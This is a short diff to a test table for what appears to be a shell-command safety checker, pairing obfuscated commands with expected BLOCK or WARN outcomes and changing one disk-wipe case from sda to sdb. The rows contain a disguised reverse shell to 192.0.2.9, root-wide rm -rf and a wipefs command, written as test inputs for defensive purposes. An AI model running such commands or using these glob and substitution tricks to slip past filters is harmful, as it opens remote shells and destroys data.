@@ -90,7 +90,7 @@ RESPELLED = [
     ("s=bXsh; ${s/X/a} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
     ("/usr/bin/r[m] -rf --no-preserve-root /", Action.BLOCK),
     ("/b?n/r? -rf --no-preserve-root /", Action.BLOCK),
-    ("/u?r/s?in/wip?fs -a /dev/sda", Action.WARN),
+    ("/u?r/s?in/wip?fs -a /dev/sdb", Action.WARN),  # sda (the system disk) blocks
     ("/[[:lower:]]in/b[^x]sh -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
     ("/???/?[[:alpha:]] -rf /", Action.WARN),  # several programs match: unknown, warns
 ]
